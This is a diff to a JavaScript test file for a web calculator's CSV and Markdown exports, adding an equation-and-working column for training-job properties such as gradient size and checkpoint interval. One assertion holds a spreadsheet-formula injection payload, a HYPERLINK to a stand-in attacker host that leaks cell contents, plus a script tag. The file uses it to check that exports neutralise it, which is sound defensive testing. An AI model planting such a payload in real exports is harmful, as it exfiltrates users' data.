@@ -218,7 +218,7 @@ test('exports write a link\'s text as text: no spreadsheet formula in a CSV cell
   const csv = resultCsv(r, type, { dp_degree: '-3+1' });
   // the name starts with an apostrophe (a spreadsheet shows it as text); quotes doubled as CSV has them
   assert.match(csv, /\ninput,workload,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A2,""click""\)<script>x<\/script>",,/);
-  assert.match(csv, /\ninput,dp_degree,16,,'-3\+1,\n/);  // the text as typed, a formula too
+  assert.match(csv, /\ninput,dp_degree,16,,'-3\+1,,\n/);  // the text as typed, a formula too
   assert.match(csv, /\nproperty,gradient_bytes,14000000000,byte,14 GB,/);  // 7e9 x 2 byte/param; numbers stay numbers
   const md = resultMarkdown(r, type, prefs('auto'), null, {});
   assert.ok(!md.includes('<script>'), md);
@@ -241,5 +241,33 @@ test('exports write an input not typed as its field\'s default reads, not in can
   assert.match(md, /\| `gpu_mttf` \| 50000 h \|/);
   assert.ok(!md.includes('180000000 s'), md);
   // the CSV keeps the canonical value and unit beside it: 50,000 h = 1.8e8 s
-  assert.match(resultCsv(r, type, {}), /\ninput,gpu_mttf,180000000,s,50000 h,\n/);
+  assert.match(resultCsv(r, type, {}), /\ninput,gpu_mttf,180000000,s,50000 h,,\n/);
+});
+
+test('exports carry each property\'s equation with the inputs substituted, as the page shows it', async () => {
+  // "exports have the equations but not the work lines" (stop 46's notes): course notes
+  // made from an export lost the working the page shows
+  const { resultCsv, resultMarkdown } = await import('../../web/export.mjs');
+  const type = m.describeScenarioType('DataParallelAttackSurfaceScenario');
+  const r = m.evaluatePreset('ReferenceJobAttackSurface', {}, { work: true });
+  const csv = resultCsv(r, type, {});
+  assert.match(csv, /^section,name,value,unit,text,equation,work\n/);
+  // GPT-3's 175e9 param × 2 byte/param = 3.5e11 byte (350 GB); 2 × (16 − 1) / 16 = 1.875
+  assert.match(csv, /\nproperty,gradient_bytes,350000000000,byte,350 GB,P × gradient_bytes_per_param,1\.75e11 param × 2 byte\/param\n/);
+  assert.match(csv, /\nproperty,allreduce_factor,1\.875,,1\.875,2 × \(N − 1\) \/ N \(0 when N = 1\),2 × \(16 − 1\) \/ 16\n/);
+  // 1,024 accelerators: a cell with a comma is quoted
+  assert.match(csv, /\nproperty,accelerators_per_replica,64,count,64,[^\n]*,"1,024 \/ 16"\n/);
+  for (const row of csv.trim().split('\n')) assert.equal(row.replace(/"[^"]*"/g, 'q').split(',').length, 7, row);
+  const md = resultMarkdown(r, type, prefs('auto'), null, {});
+  assert.match(md, /\| property \| value \| equation \| with these inputs \|\n\|---\|---\|---\|---\|/);
+  assert.match(md, /\| `gradient_bytes` \| 350 GB \| `P × gradient_bytes_per_param` \| `1\.75e11 param × 2 byte\/param` \|/);
+  // under the page's settings the line is the one its card shows: δ = 2.45 TB / 100 GB/s = 24.5 s
+  // = 0.0068056 h; sqrt(2 × 0.006806 h × 4.138 h) = 0.23733 h, shown 0.2373 h
+  const ck = m.describeScenarioType('CheckpointIntervalScenario');
+  const h = resultMarkdown(m.evaluatePreset('Gpt3On10KYoungDaly', {}, { work: true, time: 'h' }), ck, prefs('auto'), null, {});
+  assert.match(h, /\| `young_interval` \| 0\.2373 h \| `sqrt\(2 × checkpoint_write_time × M\)` \| `sqrt\(2 × 0\.006806 h × 4\.138 h\)` \|/);
+  // a result evaluated without work has an empty cell, not "undefined"
+  const bare = resultMarkdown(m.evaluatePreset('ReferenceJobAttackSurface'), type, prefs('auto'), null, {});
+  assert.match(bare, /\| `gradient_bytes` \| 350 GB \| `P × gradient_bytes_per_param` \|  \|/);
+  assert.ok(!/undefined/.test(bare + resultCsv(m.evaluatePreset('ReferenceJobAttackSurface'), type, {})));
 });
